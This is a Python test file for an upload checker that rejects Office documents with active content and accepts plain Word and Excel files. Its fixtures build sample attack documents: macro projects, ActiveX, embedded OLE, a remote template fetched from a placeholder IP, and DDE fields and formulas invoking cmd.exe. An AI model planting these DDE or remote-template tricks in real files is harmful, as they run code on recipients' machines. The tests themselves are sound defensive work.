"""Issue 16: Office files that act when opened are refused with their own message, whatever
their name; plain Word and Excel files (charts, printer settings, hyperlinks) still pass."""

import io
import zipfile

import pytest

from danvan.core.office_check import OLE_MAGIC
from danvan.core.uploads import UploadRejected, check_upload

WORD_TYPES = (b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/'
              b'2006/content-types"><Override PartName="/word/document.xml" ContentType="applica'
              b'tion/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>')  # fmt: skip
MACRO_TYPES = WORD_TYPES.replace(
    b"vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
    b"vnd.ms-word.document.macroEnabled.main+xml",
)
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
OLE = OLE_MAGIC + b"\0" * 504


def package(members, types=WORD_TYPES, main="word/document.xml", body=b"<w:document/>"):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", types)
        archive.writestr(main, body)
        for name, data in members.items():
            archive.writestr(name, data)
    return out.getvalue()


def rels(*relationships: str) -> bytes:
    inner = "".join(f"<Relationship {r}/>" for r in relationships)
    return (f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            f"{inner}</Relationships>").encode()  # fmt: skip


def ole_file(*storages: str) -> bytes:
    return OLE + b"".join(name.encode("utf-16-le") + b"\0\0" for name in storages)


def code_of(name: str, data: bytes) -> str:
    with pytest.raises(UploadRejected) as caught:
        check_upload(name, data)
    return caught.value.code


# fmt: off
ACTIVE = {
    "docm-with-macros": ("don.docm", package({"word/vbaProject.bin": OLE}, types=MACRO_TYPES)),
    "docm-type-only": ("don.docx", package({}, types=MACRO_TYPES)),
    "xlsm": ("bang.xlsm", package({"xl/vbaProject.bin": OLE}, main="xl/workbook.xml")),
    "xlm-macro-sheet": ("bang.xlsx", package({"xl/macrosheets/sheet1.xml": b"<xm:macrosheet/>"},
                                             main="xl/workbook.xml")),
    "pptm": ("trinh-chieu.pptm", package({"ppt/vbaProject.bin": OLE},
                                         main="ppt/presentation.xml")),
    "renamed-vba": ("don.docx", package({
        "word/data.bin": b"x",
        "word/_rels/document.xml.rels": rels(
            'Id="rId9" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject"'
            ' Target="data.bin"'),
    })),
    "activex": ("don.docx", package({"word/activeX/activeX1.xml": b"<ax:ocx/>"})),
    "ole-object": ("don.docx", package({"word/embeddings/oleObject1.bin": OLE})),
    "ole-object-renamed": ("don.docx", package({"word/media/image9.png": OLE})),
    "remote-template": ("don.docx", package({"word/_rels/settings.xml.rels": rels(
        f'Id="rId1" Type="{REL}/attachedTemplate" Target="http://203.0.113.9/t.dotm"'
        ' TargetMode="External"')})),
    "linked-ole": ("don.docx", package({"word/_rels/document.xml.rels": rels(
        f'Id="rId2" Type="{REL}/oleObject" Target="\\\\203.0.113.9\\s\\x.xls"'
        ' TargetMode="External"')})),
    "remote-picture": ("don.docx", package({"word/_rels/document.xml.rels": rels(
        f'Id="rId3" Type="{REL}/image" Target="https://203.0.113.9/p.png"'
        ' TargetMode="External"')})),
    "dde-field": ("don.docx", package({}, body=b'<w:document><w:r><w:instrText xml:space="prese'
                                            b'rve"> DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe'
                                            b"</w:instrText></w:r></w:document>")),
    "excel-dde": ("bang.xlsx", package({"xl/externalLinks/externalLink1.xml":
                                        b'<externalLink><ddeLink ddeService="cmd"/></externalLink>'},
                                       main="xl/workbook.xml")),
    "excel-dde-formula": ("bang.xlsx", package({"xl/worksheets/sheet1.xml":
        b"<worksheet><sheetData><row><c r=\"A1\"><f>cmd|&apos; /C calc&apos;!A0</f></c>"
        b"</row></sheetData></worksheet>"}, main="xl/workbook.xml")),
    "macros-in-embedded-workbook": ("don.docx", package({
        "word/embeddings/Microsoft_Excel_Worksheet.xlsx": package(
            {"xl/vbaProject.bin": OLE}, main="xl/workbook.xml")})),
    "word-97-with-macros": ("don.doc", ole_file("Root Entry", "Macros", "VBA", "_VBA_PROJECT")),
}
# fmt: on


@pytest.mark.parametrize(("name", "data"), list(ACTIVE.values()), ids=list(ACTIVE))
def test_office_files_that_act_when_opened_are_refused(name, data):
    assert code_of(name, data) == "office_active"


def test_an_old_word_file_without_macros_is_refused_as_a_type_we_do_not_take():
    assert code_of("don.doc", ole_file("Root Entry", "WordDocument")) == "type_not_allowed"


# fmt: off
PLAIN = {
    "chart-workbook": package({
        "word/embeddings/Microsoft_Excel_Worksheet.xlsx": package({}, main="xl/workbook.xml"),
        "word/charts/_rels/chart1.xml.rels": rels(
            f'Id="rId1" Type="{REL}/package" Target="../embeddings/Microsoft_Excel_Worksheet.xlsx"'),
    }),
    "hyperlink": package({"word/_rels/document.xml.rels": rels(
        f'Id="rId4" Type="{REL}/hyperlink" Target="https://thuvienphapluat.vn/"'
        ' TargetMode="External"')}),
    "printer-settings": package({"xl/printerSettings/printerSettings1.bin": b"\x00DEVMODE"},
                                main="xl/workbook.xml"),
    "formulas": package({"xl/worksheets/sheet1.xml":
        b"<worksheet><sheetData><row><c r=\"A1\"><f>SUM(B1:B9)&amp;\"|\"</f></c>"
        b"<c r=\"A2\"><f>IF(B1&gt;0,\"a|b\",\"\")</f></c></row></sheetData></worksheet>"},
        main="xl/workbook.xml"),
    "the-word-dde-in-text": package({}, body="<w:document><w:t>Giao thức DDE cũ</w:t></w:document>".encode()),
}
# fmt: on


@pytest.mark.parametrize("data", list(PLAIN.values()), ids=list(PLAIN))
def test_plain_word_and_excel_files_still_pass(data):
    assert check_upload("tai-lieu.docx", data).size == len(data)
